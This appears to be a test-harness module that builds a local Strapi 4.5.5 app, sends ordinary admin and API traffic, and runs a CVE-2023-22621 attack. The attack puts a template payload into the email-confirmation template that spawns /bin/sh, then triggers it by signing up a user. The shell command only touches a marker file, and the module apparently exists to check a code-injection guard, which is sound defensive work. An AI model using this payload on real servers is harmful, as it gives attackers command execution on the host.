// Strapi: content types behind an API, in a project of one's own.
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Application } from '../application.ts';
import { difficult } from '../user.ts';

const article = {
  kind: 'collectionType',
  collectionName: 'articles',
  info: { singularName: 'article', pluralName: 'articles', displayName: 'Article' },
  options: { draftAndPublish: false },
  attributes: {
    title: { type: 'string' },
    body: { type: 'richtext' },
    data: { type: 'json' },
    picture: { type: 'media', multiple: false, allowedTypes: ['images', 'files'] },
  },
};

export default {
  name: 'strapi',
  packages: { '@strapi/strapi': '4.5.5', '@strapi/plugin-users-permissions': '4.5.5', pg: '8.8.0' },
  overrides: { sharp: '0.33.5' },
  needs: 'postgresql',
  start({ packages, folder, port, serverPort }) {
    const files = {
      'package.json': JSON.stringify({
        name: 'shop',
        version: '1.0.0',
        private: true,
        dependencies: { '@strapi/strapi': '4.5.5', '@strapi/plugin-users-permissions': '4.5.5', pg: '8.8.0' },
        strapi: { uuid: false },
      }),
      'config/server.js': `module.exports = { host: '127.0.0.1', port: ${port}, app: { keys: ['ordinary', 'keys'] } };`,
      'config/admin.js': `module.exports = { serveAdminPanel: false, auth: { secret: 'ordinary' }, apiToken: { salt: 'salt' } };`,
      'config/database.js': `module.exports = { connection: { client: 'postgres', connection: { host: '127.0.0.1', port: ${serverPort}, database: 'postgres', user: 'test', password: 'x', ssl: false } } };`,
      'config/api.js': 'module.exports = { rest: { defaultLimit: 25, maxLimit: 100, withCount: true } };',
      'config/plugins.js': "module.exports = { 'users-permissions': { config: { jwtSecret: 'ordinary' } } };",
      'config/middlewares.js':
        "module.exports = ['strapi::errors', 'strapi::security', 'strapi::cors', 'strapi::poweredBy', 'strapi::query', 'strapi::body', 'strapi::session', 'strapi::favicon', 'strapi::public'];",
      'src/index.js': 'module.exports = { register() {}, bootstrap() {} };',
      'src/api/article/content-types/article/schema.json': JSON.stringify(article),
      'src/api/article/controllers/article.js':
        "const { createCoreController } = require('@strapi/strapi').factories;\nmodule.exports = createCoreController('api::article.article');",
      'src/api/article/services/article.js':
        "const { createCoreService } = require('@strapi/strapi').factories;\nmodule.exports = createCoreService('api::article.article');",
      'src/api/article/routes/article.js':
        "const { createCoreRouter } = require('@strapi/strapi').factories;\nmodule.exports = createCoreRouter('api::article.article');",
      'favicon.ico': '',
      'public/uploads/.gitkeep': '',
    };
    for (const [file, text] of Object.entries(files)) {
      mkdirSync(join(folder, file, '..'), { recursive: true });
      writeFileSync(join(folder, file), text);
    }
    symlinkSync(packages, join(folder, 'node_modules'));
    return {
      file: join(packages, '@strapi/strapi/bin/strapi.js'),
      arguments: ['start'],
      environment: {
        NODE_ENV: 'production',
        STRAPI_TELEMETRY_DISABLED: 'true',
        STRAPI_DISABLE_UPDATE_NOTIFICATION: 'true',
        BROWSER: 'false',
      },
      ready: '/admin/init',
    };
  },
  async use(user) {
    const admin = { firstname: 'Ann', lastname: "O'Neil", email: 'ann@example.com', password: "It's-Secret1" };
    const { json } = await user.post('/admin/register-admin', admin, { statusOnly: true });
    user.headers['authorization'] = `Bearer ${(json as { data: { token: string } }).data.token}`;
    await user.get('/admin/users/me', { statusOnly: true });
    const content = '/content-manager/collection-types/api::article.article';
    for (const [index, text] of difficult.entries()) {
      await user.post(
        content,
        { title: text.slice(0, 200), body: `${text}\n${difficult.join('\n')}`, data: { text, list: [text] } },
        { statusOnly: true },
      );
      await user.put(`${content}/${index + 1}`, { title: `${index} ${text.slice(0, 100)}` }, { statusOnly: true });
      await user.get(`${content}?${new URLSearchParams({ page: '1', pageSize: '3', sort: 'title:ASC', _q: text })}`, {
        statusOnly: true,
      });
      await user.get(
        `${content}?${new URLSearchParams({ 'filters[$and][0][title][$contains]': text, 'filters[$or][0][body][$startsWith]': text })}`,
        { statusOnly: true },
      );
      const form = new FormData();
      form.append('fileInfo', JSON.stringify({ name: text.slice(0, 40), caption: text, alternativeText: text }));
      form.append('files', new Blob([text], { type: 'text/plain' }), `it's ${index} & more.txt`);
      const { json: uploaded } = await user.post('/upload', form, { statusOnly: true });
      const url = (uploaded as { url?: string }[])?.[0]?.url;
      user.hide(/_(\w{10})\.txt$/.exec(url ?? '')?.[1]);
      if (url !== undefined) user.note('uploaded', (await user.get(url, { statusOnly: true })).text);
    }
    await user.delete(`${content}/3`, { statusOnly: true });
    const { json: roles } = await user.get('/users-permissions/roles', { statusOnly: true });
    const open = (roles as { roles: { id: number; type: string }[] }).roles.find(({ type }) => type === 'public')!.id;
    const { json: role } = await user.get(`/users-permissions/roles/${open}`, { statusOnly: true });
    const { permissions } = (role as { role: { permissions: any } }).role;
    for (const action of Object.values(permissions['api::article'].controllers.article) as { enabled: boolean }[])
      action.enabled = true;
    await user.put(
      `/users-permissions/roles/${open}`,
      { name: 'Public', description: 'Default', permissions, users: [] },
      { statusOnly: true },
    );
    delete user.headers['authorization'];
    for (const text of difficult) {
      await user.get(
        `/api/articles?${new URLSearchParams({ 'filters[title][$containsi]': text, 'fields[0]': 'title', 'sort[0]': 'title:desc' })}`,
        { statusOnly: true },
      );
      await user.post('/api/articles', { data: { title: text.slice(0, 100), body: text } }, { statusOnly: true });
    }
    await user.post(
      '/api/auth/local/register',
      { username: "bob o'neil", email: 'bob@example.com', password: 'x--; "secret"' },
      { statusOnly: true },
    );
    await user.post(
      '/api/auth/local',
      { identifier: 'bob@example.com', password: 'x--; "secret"' },
      { statusOnly: true },
    );
  },
  attacks: [
    {
      id: 'CVE-2023-22621',
      guard: 'code-injection',
      title: 'stores a mail template whose expression starts a program, and signs up',
      async attempt(user, { made, appears }) {
        const file = made();
        const { json } = await user.post(
          '/admin/login',
          { email: 'ann@example.com', password: "It's-Secret1" },
          { statusOnly: true },
        );
        const authorization = `Bearer ${(json as { data: { token: string } }).data.token}`;
        const asAdmin = { headers: { authorization } };
        const { json: advanced } = await user.get('/users-permissions/advanced', asAdmin);
        const settings = {
          ...(advanced as { settings: object }).settings,
          email_confirmation: true,
          email_confirmation_redirection: 'http://127.0.0.1/',
        };
        await user.put('/users-permissions/advanced', settings, asAdmin);
        const { json: templates } = await user.get('/users-permissions/email-templates', asAdmin);
        const all = templates as { email_confirmation: { options: { message: string } } };
        all.email_confirmation.options.message = `<%= \`\${ 1 >= 0 && process.binding("spawn_sync").spawn({ file: "/bin/sh", args: ["/bin/sh", "-c", "touch ${file}"], stdio: [{ readable: 1, writable: 1, type: "pipe" }, { readable: 1, writable: 1, type: "pipe" }] }).output }\` %>`;
        await user.put('/users-permissions/email-templates', { 'email-templates': all }, asAdmin);
        await user.post('/api/auth/local/register', {
          username: 'eve',
          email: 'eve@example.com',
          password: 'secret-password',
        });
        return appears(file);
      },
    },
  ],
} satisfies Application;
